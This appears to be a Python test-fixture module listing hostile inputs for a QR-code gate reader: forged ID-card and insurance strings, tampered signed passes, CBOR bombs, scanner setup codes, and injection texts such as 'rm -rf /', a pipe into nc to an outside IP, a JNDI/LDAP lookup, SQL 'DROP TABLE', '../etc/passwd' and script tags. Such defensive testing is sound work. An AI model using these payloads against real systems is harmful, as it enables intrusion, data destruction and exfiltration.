"""Symbols in good order whose payload is meant for what comes after the decoder: parsers, links, logs, shells."""

from __future__ import annotations

import json
from collections.abc import Iterator

import cbor2

from tests.gates import Issuer
from tests.hostile.cases import Case, of_payload

STRANGER = Issuer(seed=66)
"""Signs as well as anybody; no gate of these tests trusts it."""


def cccd(
    number: str = "999000000001", old: str = "", name: str = "Nguyễn Thử", birth: str = "01011990", sex: str = "Nam", issued: str = "01012022"
) -> bytes:
    return f"{number}|{old}|{name}|{birth}|{sex}|Số 1 đường Mẫu|{issued}".encode()


def mic(
    paper: str = "999000000077", name: str = "NGUYEN THU", birth: str = "1990-01-01", kind: str = "1", qid: str = "QID999000000077", ext: str = ""
) -> bytes:
    return f"{paper}|{name}|{birth}|{kind}|{qid}|{ext}".encode()


# Everybody can print these: well-formed, and proven by nothing.
CLAIMS = {
    "card": cccd("999000000101"),
    "card of eleven fields": cccd("999000000102") + b"|||A|B",
    "card with an old number": cccd("999000000103", "999000103"),
    "card whose owner knows the year only": cccd("999000000104", birth="1950"),
    "card with a name that turns round": cccd("999000000105", name="A\u202eB\u202c"),
    "card with a name of nothing to see": cccd("999000000106", name="\u200b\u2060"),
    "card with a shell in its name": cccd("999000000107", name="$(reboot)`id`;rm -rf /"),
    "card with a page in its name": cccd("999000000108", name="<script>alert(1)</script>"),
    "card in decomposed letters": cccd("999000000109", sex="Nu\u031b\u0303"),
    "card after a byte order mark": b"\xef\xbb\xbf" + cccd("999000000110"),
    "card with a line end": cccd("999000000111") + b"\r\n",
    "paper": mic(qid="QID999000000201"),
    "paper, masked": mic("9990*****077", birth="****-**-**", qid="QID999000000202"),
    "paper with EXT": mic(qid="QID999000000203", ext="A<B=1"),
}

FAKES = {
    "card of eight fields": cccd() + b"|",
    "card of six fields": cccd().rpartition(b"|")[0],
    "card without a name": cccd(name=""),
    "card of the thirtieth of February": cccd(birth="30021990"),
    "card with Arabic digits": cccd("٩٩٩٠٠٠٠٠٠٠٠١"),
    "card with wide digits": cccd("\uff19" * 3 + "\uff10" * 8 + "\uff11"),
    "card with a sign": cccd("+99000000001"),
    "card with a line break inside": cccd(name="A\nB"),
    "card with an escape inside": cccd(name="\x1b[2JA"),
    "card with a zero byte inside": cccd(name="A\x00B"),
    "card with C1 controls": cccd(name="A\x9bB"),
    "card in Latin-1": cccd().decode().encode("utf-8").replace("ễ".encode(), b"\xea"),
    "card with overlong bars": cccd().replace(b"|", b"\xc1\xbc"),
    "card with fullwidth bars": cccd().replace(b"|", "\uff5c".encode()),
    "card with a surrogate": cccd(name="A").replace(b"|A|", b"|\xed\xa0\x80|"),
    "card with another sex": cccd(sex="nam"),
    "card of too long a name": cccd(name="A" * 101),
    "two cards": cccd() + b"\n" + cccd("999000000002"),
    "paper of seven fields": mic() + b"|",
    "paper of another kind": mic(kind="2"),
    "paper of the fourteenth month": mic(birth="1990-14-01"),
    "paper without QID": mic(qid=""),
    "paper with a path as QID": mic(qid="../../etc/passwd"),
    "paper with a name of digits": mic(name="1234"),
    "paper with a topic as EXT": mic(ext="qg/v1/#"),
}


def _passes() -> dict[str, bytes]:
    good = STRANGER.issue(1)
    text, signature = good.rsplit(b".", 1)
    return {
        "pass of a stranger": good,
        "pass with another's signature": text + b"." + STRANGER.issue(2).rsplit(b".", 1)[1],
        "pass without a signature": text,
        "pass with an empty signature": text + b".",
        "pass with a short signature": text + b"." + signature[:-4],
        "pass with padding": good + b"=",
        "pass with a newline": good + b"\n",
        "pass in lower case": good.replace(b"KD1", b"kd1"),
        "pass of another version": good.replace(b"KD1.", b"KD2:"),
        "pass after a space": b" " + good,
        "pass twice": good + good,
        "pass of dots": b"KD1." + b"." * 200,
        "pass of nothing": b"KD1..",
        "pass of slashes": b"KD1.////.++++",
        "pass of deep lists": b"KD1." + b"gYGB" * 300 + b"." + signature,
        "pass of a huge text": b"KD1.e_________8." + signature,
        "pass of letters of no alphabet": "KD1.\uff21\uff21.\uff21\uff21".encode(),
    }


BOMBS = {
    "lists in lists": b"\x81" * 1000 + b"\x00",
    "a list of 2^63": b"\x9b" + b"\x7f" + b"\xff" * 7,
    "a text of 2^64": b"\x7b" + b"\xff" * 8,
    "a pattern": cbor2.dumps(cbor2.CBORTag(35, "(a+)+$" * 50)),
    "a number of many digits": cbor2.dumps(cbor2.CBORTag(4, [10_000, 1])),
    "a network": cbor2.dumps(cbor2.CBORTag(261, {b"\x00" * 4: 0})),
    "shared and cyclic": b"\xd8\x1c\x81\xd8\x1d\x00",
    "endless": b"\x9f" + b"\x00" * 500,
    "a view of our own": cbor2.dumps(["view", [["0badcafe-1", "appeared", b"x", 1, 1, 1, 1, "half"]]]),
    "a reader's state of our own": cbor2.dumps(["reader", "ok", 0, 0, 0, 0]),
}

SETUP = {
    "our set-up code": b"GP1:eyJzaXRlIjoiczEifQ",
    "our set-up code, upper case": b"GP1 SITE=S1 BROKER=EVIL.EXAMPLE",
    "our set-up code of nothing": b"GP1",
    "a GM65 set-up code": b"^#SC^3030300.",
    "a Honeywell set-up code": b"\x16M\rPAPHHF1.",
    "a Mindeo set-up code": b"%%SpecCode9A",
    "a Newland set-up code": b"@FACDEF;",
    "a trigger command": bytes.fromhex("7e000801000201abcd"),
    "an acknowledgement": bytes.fromhex("020000010033 31".replace(" ", "")),
    "a relay frame": bytes.fromhex("a00101a2"),
    "a wireless network": b"WIFI:T:WPA;S:gate;P:999;;",
}

TEXTS = {
    "a command after a quote": b"'; reboot; echo '",
    "a command in a substitution": b"$(touch /tmp/999)`touch /tmp/999`",
    "a pipe": b"| nc 192.0.2.1 9 &",
    "a format": b"%s%n%x{0.__class__.__mro__}${jndi:ldap://192.0.2.1/a}",
    "a statement": b"Robert'); DROP TABLE event;--",
    "a path": b"../../../../etc/qrgate/site.toml",
    "a page": b"<img src=x onerror=alert(1)>",
    "a log line": b"x\n12:00:00 qrgate.gate: ADMIT ok kd1",
    "a terminal's title": b"\x1b]0;ADMIT\x07\x1b[31m",
    "a turn of direction": "\u202etimda\u202c".encode(),
    "an isolate without end": ("\u2066" * 200).encode(),
    "nothing to see": ("\u200b\u200c\u200d\ufeff" * 50).encode(),
    "a tower of marks": ("Z" + "\u0300" * 700).encode(),
    "emoji": ("👩‍👩‍👧‍👦" * 40).encode(),
    "a topic": b"qg/v1/+/#",
    "a payment with a wrong sum": b"00020101021238570010A00000072701270006970403011300110123456780208QRIBFTTA53037045802VN63049999",
    "a link": b"HTTPS://QR.EXAMPLE/999",
    "a link without a host": b"http://",
    "JSON in JSON": json.dumps([[[[[[[[{"a": "b" * 200}]]]]]]]]).encode(),
    "brackets": b"[" * 1500,
    "one bar": b"|",
    "bars": b"|" * 1400,
    "digits": b"9" * 1400,
    "spaces": b" " * 300,
    "zeros": b"\x00" * 300,
    "a byte order mark": b"\xff\xfe9\x009\x00",
    "deletes": b"\x7f" * 100,
}


def cases() -> Iterator[Case]:
    for name, payload in CLAIMS.items():
        yield of_payload(f"claim: {name}", payload, claim=True)
    for group, payloads in (("fake", FAKES), ("pass", _passes()), ("CBOR", BOMBS), ("set-up", SETUP), ("text", TEXTS)):
        for name, payload in payloads.items():
            yield of_payload(f"{group}: {name}", payload)
